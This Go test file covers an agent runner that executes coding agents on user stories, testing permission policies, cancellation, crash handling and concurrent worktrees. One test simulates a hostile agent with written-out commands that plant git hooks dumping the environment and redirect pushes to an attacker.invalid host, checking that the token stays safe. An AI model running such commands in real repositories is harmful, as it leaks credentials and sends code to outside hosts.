package runner

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/aimi-tools/swarm/acpclient"
	"github.com/aimi-tools/swarm/acpmsg"
	"github.com/aimi-tools/swarm/internal/gittest"
	"github.com/aimi-tools/swarm/internal/syncbuf"
	"github.com/aimi-tools/swarm/internal/testwait"
	"github.com/aimi-tools/swarm/tasks"
)

// buildExampleAgent builds the SDK's own example agent, a third-party ACP
// peer that streams chunks, reports tool calls and asks for permission.
func buildExampleAgent(t *testing.T) string {
	t.Helper()
	bin := filepath.Join(t.TempDir(), "example-agent")
	out, err := exec.Command("go", "build", "-o", bin, "github.com/coder/acp-go-sdk/example/agent").CombinedOutput()
	if err != nil {
		t.Fatalf("build the SDK example agent: %v\n%s", err, out)
	}
	return bin
}

func oneStory(t *testing.T) *tasks.File {
	f := fixture(t, linear)
	f.UserStories = f.UserStories[:1]
	return f
}

func TestRunWithSDKExampleAgent(t *testing.T) {
	if testing.Short() {
		t.Skip("the example agent takes about five seconds per story")
	}
	agent := buildExampleAgent(t)
	cases := []struct {
		name   string
		policy string
		want   []string // in the completed story's output
	}{
		{"allowed permission: the edit completes", "allow", []string{"ACP Go Example Agent", "Reading project files (read, completed)", "Modifying critical configuration file (edit, completed)", "Modifying critical configuration file: allowed", "successfully updated"}},
		{"rejected by kind: the agent skips the edit", "allow-kinds:read", []string{"Modifying critical configuration file: rejected", "skip the configuration update"}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			s := newScenario(t, oneStory(t), "")
			s.cfg.Agent = AgentACP
			s.cfg.AgentCommand = agent
			p, err := acpclient.ParsePolicy(tc.policy)
			if err != nil {
				t.Fatal(err)
			}
			s.cfg.Policy = p
			code, msgs := runScenario(t, context.Background(), s, s.request(t))
			if c := completionOf(t, msgs); c.Status != acpmsg.CompletionCompleted || code != ExitOK || len(c.Errors) != 0 {
				t.Fatalf("completion %+v", c)
			}
			ps := progressOf(msgs)
			if len(ps) != 2 || ps[1].status != acpmsg.StoryCompleted {
				t.Fatalf("progress %+v", ps)
			}
			for _, w := range tc.want {
				if !strings.Contains(ps[1].output, w) {
					t.Errorf("output lacks %q:\n%s", w, ps[1].output)
				}
			}
			if got := finalStatuses(t, s); got["US-001"] != tasks.Completed {
				t.Errorf("task file %v", got)
			}
		})
	}
}

func TestStopWithSDKExampleAgentEndsTheTurnTheACPWay(t *testing.T) {
	if testing.Short() {
		t.Skip("builds the SDK example agent")
	}
	agent := buildExampleAgent(t)
	s := newScenario(t, oneStory(t), "")
	s.cfg.Agent = AgentACP
	s.cfg.AgentCommand = agent
	var logs syncbuf.Buffer
	s.cfg.Logger = slog.New(slog.NewTextHandler(&logs, &slog.HandlerOptions{Level: slog.LevelDebug}))
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	var out syncbuf.Buffer
	done := make(chan int, 1)
	go func() { done <- Run(ctx, s.cfg, strings.NewReader(s.request(t)), &out) }()
	// Mid-turn: the example agent asks for its edit a few seconds into the
	// turn and goes on working a second or two after the answer.
	testwait.Eventually(t, 30*time.Second, "the permission answered", func() error {
		return contains(logs.String(), "permission answered")
	}, every)
	cancel()
	select {
	case <-done:
	case <-time.After(30 * time.Second):
		t.Fatal("runner did not stop")
	}
	msgs := parseAll(t, out.String())
	if c := completionOf(t, msgs); c.Status != acpmsg.CompletionStopped {
		t.Fatalf("completion %+v", c)
	}
	if strings.Contains(logs.String(), "killing its process group") {
		t.Error("the example agent honours session/cancel; it should not need the kill")
	}
	if len(progressOf(msgs)) != 1 {
		t.Errorf("a stopped story gets no final progress-update: %+v", progressOf(msgs))
	}
}

func TestRunWithExecBackend(t *testing.T) {
	cases := []struct {
		name    string
		command string
		want    tasks.Status
		output  string
	}{
		{"a command exiting 0 completes the story", `cat > "prompt-$AIMI_STORY_ID.txt"; echo "wrote the prompt for $STORY_ENV"`, tasks.Completed, "wrote the prompt for yes"},
		{"a failing command fails the story with its output", `echo "compiler says no" >&2; exit 3`, tasks.Failed, "compiler says no"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			s := newScenario(t, oneStory(t), "")
			s.cfg.Agent = AgentExec
			s.cfg.AgentCommand = tc.command
			_, msgs := runScenario(t, context.Background(), s, s.request(t))
			ps := progressOf(msgs)
			last := ps[len(ps)-1]
			if last.status != string(tc.want) || !strings.Contains(last.output, tc.output) {
				t.Fatalf("last progress %+v", last)
			}
			if tc.want == tasks.Completed && !strings.Contains(s.srv.Show(t, s.branch, "prompt-US-001.txt"), "Story US-001: Story 1") {
				t.Error("prompt file not committed")
			}
		})
	}
}

func TestAgentThatDiesFailsItsStoryAndSkipsDependents(t *testing.T) {
	f := fixture(t, linear)
	s := newScenario(t, f, "")
	s.cfg.Agent = AgentACP
	s.cfg.AgentCommand = `echo "agent: missing API key" >&2; exit 3`
	code, msgs := runScenario(t, context.Background(), s, s.request(t))
	c := completionOf(t, msgs)
	if c.Status != acpmsg.CompletionCompleted || code != ExitOK {
		t.Fatalf("completion %+v", c)
	}
	errs := strings.Join(c.Errors, "\n")
	if !strings.Contains(errs, "US-001: AGENT_CRASH") || !strings.Contains(errs, "missing API key") {
		t.Fatalf("errors %q", c.Errors)
	}
	got := finalStatuses(t, s)
	if got["US-001"] != tasks.Failed || got["US-002"] != tasks.Skipped || got["US-003"] != tasks.Skipped {
		t.Fatalf("statuses %v", got)
	}
}

func TestStopExecBackendKillsTheCommandGroup(t *testing.T) {
	s := newScenario(t, oneStory(t), "")
	s.cfg.Agent = AgentExec
	s.cfg.AgentCommand = `sleep 60 & sleep 60; wait`
	s.cfg.StopGrace = 200 * time.Millisecond
	pids := make(chan int, 1)
	s.cfg.onAgentStart = func(pid int) { pids <- pid }
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	var out syncbuf.Buffer
	done := make(chan int, 1)
	go func() { done <- Run(ctx, s.cfg, strings.NewReader(s.request(t)), &out) }()
	testwait.Eventually(t, 30*time.Second, "a story in progress", func() error { return contains(out.String(), `"status":"in_progress"`) }, every)
	start := time.Now()
	cancel()
	select {
	case <-done:
	case <-time.After(20 * time.Second):
		t.Fatal("runner did not stop")
	}
	if d := time.Since(start); d > 15*time.Second {
		t.Errorf("stop took %s", d)
	}
	if c := completionOf(t, parseAll(t, out.String())); c.Status != acpmsg.CompletionStopped {
		t.Fatalf("completion %+v", c)
	}
	pid := <-pids
	// The group's orphans were SIGKILLed, but init reaps them asynchronously:
	// until then kill(-pgid, 0) still finds their zombies.
	var err error
	gone := func() bool { err = syscall.Kill(-pid, 0); return errors.Is(err, syscall.ESRCH) }
	testwait.Eventually(t, 10*time.Second, fmt.Sprintf("command group %d gone", pid), func() error {
		if !gone() {
			return fmt.Errorf("it still exists: %v", err)
		}
		return nil
	}, testwait.Every(50*time.Millisecond))
}

func TestAgentEditsToGitConfigCannotReachTheToken(t *testing.T) {
	cases := []struct {
		name      string
		command   string
		wantError string // in completion errors; "" means the push went through
	}{
		{"a planted pre-push hook does not run", `mkdir -p .git/hooks && printf '#!/bin/sh\nenv > "$MARKER_DIR/hook-env"\n' > .git/hooks/pre-push && chmod +x .git/hooks/pre-push && printf '#!/bin/sh\nenv > "$MARKER_DIR/hook-env"\n' > .git/hooks/post-commit && chmod +x .git/hooks/post-commit`, ""},
		{"a URL rewrite stops the push", `git config url."https://attacker.invalid/".insteadOf "$REPO_URL"`, "refusing to push"},
		{"a changed origin is not where the branch goes", `git remote set-url origin https://attacker.invalid/repo.git`, ""},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			s := newScenario(t, oneStory(t), "tok-123")
			marker := t.TempDir()
			s.cfg.Agent = AgentExec
			s.cfg.AgentCommand = tc.command
			s.cfg.Env = append(s.cfg.Env, "MARKER_DIR="+marker, "REPO_URL="+s.srv.URL)
			_, msgs := runScenario(t, context.Background(), s, s.request(t))
			c := completionOf(t, msgs)
			errs := strings.Join(c.Errors, "\n")
			if tc.wantError == "" && errs != "" || !strings.Contains(errs, tc.wantError) {
				t.Fatalf("errors %q, want %q", c.Errors, tc.wantError)
			}
			if _, err := os.Stat(filepath.Join(marker, "hook-env")); err == nil {
				t.Fatal("a hook written by the agent ran")
			}
			if tc.wantError == "" && finalStatuses(t, s)["US-001"] != tasks.Completed {
				t.Fatal("the branch was not pushed to the request's repository")
			}
		})
	}
}

// twoRoots is a task file whose two stories are ready together and run at
// once (maxConcurrency 2), each in its own worktree.
func twoRoots(t *testing.T) *tasks.File {
	f := fixture(t, diamond)
	f.UserStories = f.UserStories[1:3]
	for i := range f.UserStories {
		f.UserStories[i].DependsOn = []string{}
	}
	return f
}

func TestConcurrentStoriesAreIsolated(t *testing.T) {
	cases := []struct {
		name    string
		command string
		check   func(t *testing.T, s *scenario, got map[string]tasks.Status, c *acpmsg.Completion)
	}{
		{
			name:    "each story's commit carries only its own changes",
			command: `echo "$AIMI_STORY_ID" > "$AIMI_STORY_ID.txt"; sleep 1; ls`,
			check: func(t *testing.T, s *scenario, got map[string]tasks.Status, c *acpmsg.Completion) {
				if got["US-002"] != tasks.Completed || got["US-003"] != tasks.Completed || len(c.Errors) != 0 {
					t.Fatalf("statuses %v errors %q", got, c.Errors)
				}
				for _, id := range []string{"US-002", "US-003"} {
					files := gittest.Git(t, s.srv.Bare, "log", "--format=", "--name-only", "--grep", "^"+id+":", s.branch)
					if !strings.Contains(files, id+".txt") || strings.Count(files, ".txt") != 1 {
						t.Errorf("commit of %s touches %q", id, files)
					}
				}
			},
		},
		{
			name:    "conflicting edits: the later story fails and its changes stay off the branch",
			command: `echo "$AIMI_STORY_ID" > shared.txt; sleep 1`,
			check: func(t *testing.T, s *scenario, got map[string]tasks.Status, c *acpmsg.Completion) {
				var won, lost string
				switch {
				case got["US-002"] == tasks.Completed && got["US-003"] == tasks.Failed:
					won, lost = "US-002", "US-003"
				case got["US-003"] == tasks.Completed && got["US-002"] == tasks.Failed:
					won, lost = "US-003", "US-002"
				default:
					t.Fatalf("want one completed and one failed, got %v", got)
				}
				if content := strings.TrimSpace(s.srv.Show(t, s.branch, "shared.txt")); content != won {
					t.Errorf("shared.txt is %q, want the winner %s", content, won)
				}
				if !strings.Contains(strings.Join(c.Errors, "\n"), lost+": its changes conflict") {
					t.Errorf("errors %q", c.Errors)
				}
			},
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			s := newScenario(t, twoRoots(t), "")
			s.cfg.Agent = AgentExec
			s.cfg.AgentCommand = tc.command
			_, msgs := runScenario(t, context.Background(), s, s.request(t))
			c := completionOf(t, msgs)
			if c.Status != acpmsg.CompletionCompleted {
				t.Fatalf("completion %+v", c)
			}
			if peak := checkOrder(t, twoRoots(t), progressOf(msgs), 2); peak != 2 {
				t.Errorf("peak concurrency %d, want 2", peak)
			}
			tc.check(t, s, finalStatuses(t, s), c)
			if out := gittest.Git(t, s.cfg.Workspace, "worktree", "list"); strings.Count(out, "\n") != 0 {
				t.Errorf("worktrees left behind:\n%s", out)
			}
		})
	}
}

// TestALoneStoryWorksInTheWorkspaceItself: a run with one story to do
// cannot run two at once whatever maxConcurrency says, so the story works
// in the workspace itself (the path agents expect) instead of a worktree
// made, checked out and cherry-picked back for nothing.
func TestALoneStoryWorksInTheWorkspaceItself(t *testing.T) {
	f := twoRoots(t)
	f.UserStories = f.UserStories[:1]
	f.Metadata.MaxConcurrency = 3
	s := newScenario(t, f, "")
	s.cfg.Agent = AgentExec
	s.cfg.AgentCommand = `pwd > "$AIMI_STORY_ID.where"`
	_, msgs := runScenario(t, context.Background(), s, s.request(t))
	if c := completionOf(t, msgs); c.Status != acpmsg.CompletionCompleted {
		t.Fatalf("completion %+v", c)
	}
	id := f.UserStories[0].ID
	where := strings.TrimSpace(s.srv.Show(t, s.branch, id+".where"))
	if want, _ := filepath.EvalSymlinks(s.cfg.Workspace); where != s.cfg.Workspace && where != want {
		t.Errorf("the lone story worked in %s, want the workspace %s", where, s.cfg.Workspace)
	}
}
